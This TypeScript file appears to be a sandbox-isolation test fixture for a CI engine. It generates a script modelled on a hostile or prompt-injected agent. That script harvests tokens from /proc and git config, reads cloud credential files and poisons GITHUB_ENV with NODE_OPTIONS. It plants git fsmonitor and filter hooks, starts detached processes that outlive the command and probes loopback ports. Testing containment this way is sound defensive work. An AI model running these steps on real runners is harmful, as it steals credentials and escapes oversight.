/**
 * `leak.js`: what a hostile (or prompt-injected) agent would put in a test file to steal the runner's
 * secrets. It is given the real paths an attacker would have to guess, so it is the strongest form of the
 * attack. It prints one `LEAK-REPORT {json}` line first (what each attack achieved), then everything it
 * found: as it is, reversed, and cut in 8-character pieces, so a redactor that only knows the exact values
 * cannot hide a leak from the test.
 */
export interface LeakTargets {
  /** The checkout's `.git/config` (actions/checkout keeps the token there). */
  checkoutGitConfig: string
  /** The checkout's `.git/info/attributes` (a filter or merge driver set there runs in the engine's git). */
  checkoutAttributes: string
  /** The GITHUB_ENV file of the job: appending to it sets variables for later steps. */
  githubEnv: string
  /** The runner's temp directory. */
  runnerTemp: string
  /** A file outside the worktree the script tries to create (must not appear on the host). */
  plantedFile: string
  /** Loopback ports that must be unreachable. */
  ports: number[]
  /** Put in the argv of the child that tries to outlive the command, to find it on the host afterwards. */
  survivorMarker: string
  /** Cloud credential files the runner holds (google-github-actions/auth writes one into the workspace). */
  credentialFiles: string[]
}

export function leakScript(targets: LeakTargets): string {
  return `'use strict'
const fs = require('fs')
const net = require('net')
const path = require('path')
const { spawn } = require('child_process')
const T = ${JSON.stringify(targets)}
const found = []
const report = {}
const code = e => (e && e.code) || String(e)
const attempt = (name, f) => { try { report[name] = f() } catch (e) { report[name] = 'FAILED:' + code(e) } }

// 1. Every process's environment and command line it can see.
attempt('proc', () => {
  const pids = fs.readdirSync('/proc').filter(n => /^\\d+$/.test(n))
  let readable = 0
  for (const pid of pids) {
    for (const file of ['environ', 'cmdline']) {
      try {
        const text = fs.readFileSync('/proc/' + pid + '/' + file, 'utf8')
        readable++
        // Keep what looks valuable, so the loot fits in the output cap whole.
        for (const entry of text.split('\\0')) if (/TOKEN|KEY|SECRET|AUTH|INPUT_|ACTIONS_/i.test(entry)) found.push(entry)
      } catch {}
    }
  }
  return { pids: pids.length, readable, ownEnv: Object.keys(process.env).sort().join(',') }
})

// 2. The checkout's git config, directly and through the worktree's .git file.
attempt('gitConfig', () => fs.readFileSync(T.checkoutGitConfig, 'utf8'))
attempt('gitConfigViaGitFile', () => {
  const gitdir = fs.readFileSync('.git', 'utf8').replace(/^gitdir: /, '').trim()
  return fs.readFileSync(path.join(gitdir, '..', '..', 'config'), 'utf8')
})

// 3. RUNNER_TEMP and GITHUB_ENV: read, and append a variable for the next step.
attempt('runnerTemp', () => fs.readdirSync(T.runnerTemp).join(','))
attempt('githubEnvRead', () => fs.readFileSync(T.githubEnv, 'utf8'))
attempt('githubEnvAppend', () => { fs.appendFileSync(T.githubEnv, 'NODE_OPTIONS=--require /tmp/pwn.js\\n'); return 'APPENDED' })

// 3b. Cloud credentials on disk: the file GOOGLE_APPLICATION_CREDENTIALS names, AWS's shared files.
attempt('credentialFiles', () => T.credentialFiles.map(file => fs.readFileSync(file, 'utf8')).join('\\n'))

// 4. Writes outside the worktree, and git settings the engine's own git would obey.
attempt('plant', () => { fs.writeFileSync(T.plantedFile, 'planted'); return 'WRITTEN' })
attempt('gitConfigWrite', () => { fs.appendFileSync(T.checkoutGitConfig, '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n'); return 'WRITTEN' })
attempt('attributesWrite', () => { fs.mkdirSync(path.dirname(T.checkoutAttributes), { recursive: true }); fs.appendFileSync(T.checkoutAttributes, '* filter=pwn merge=pwn\\n'); return 'WRITTEN' })
attempt('gitFileRewrite', () => { fs.writeFileSync('.git', 'gitdir: /tmp/evil-gitdir\\n'); return 'WRITTEN' })
attempt('workflowWrite', () => { fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/pwn.yml', 'on: push'); return 'WRITTEN_IN_WORKTREE' })

// 5. A child that tries to outlive the command: setsid, detached, never ending.
attempt('survivor', () => {
  const keepAlive = 'setInterval(() => {}, 1000) // ' + T.survivorMarker
  const a = spawn('setsid', [process.execPath, '-e', keepAlive], { detached: true, stdio: 'ignore' })
  a.on('error', () => {})
  a.unref()
  const b = spawn(process.execPath, ['-e', keepAlive], { detached: true, stdio: 'ignore' })
  b.unref()
  return 'STARTED'
})

// 6. The network: loopback ports of the host (the test's server, the fake GitHub).
const connect = port => new Promise(resolve => {
  const socket = net.connect(port, '127.0.0.1')
  socket.setTimeout(2000, () => { socket.destroy(); resolve('FAILED:TIMEOUT') })
  socket.on('connect', () => { socket.destroy(); resolve('CONNECTED') })
  socket.on('error', e => resolve('FAILED:' + code(e)))
})

Promise.all(T.ports.map(connect)).then(results => {
  report.network = results
  for (const value of Object.values(report)) if (typeof value === 'string' && !value.startsWith('FAILED:')) found.push(value)
  console.log('LEAK-REPORT ' + JSON.stringify(report))
  const all = found.join('\\n')
  console.log(all)
  console.log([...all].reverse().join(''))
  for (let i = 0; i < all.length; i += 8) console.log(all.slice(i, i + 8))
  setTimeout(() => process.exit(0), 200)
})
`
}
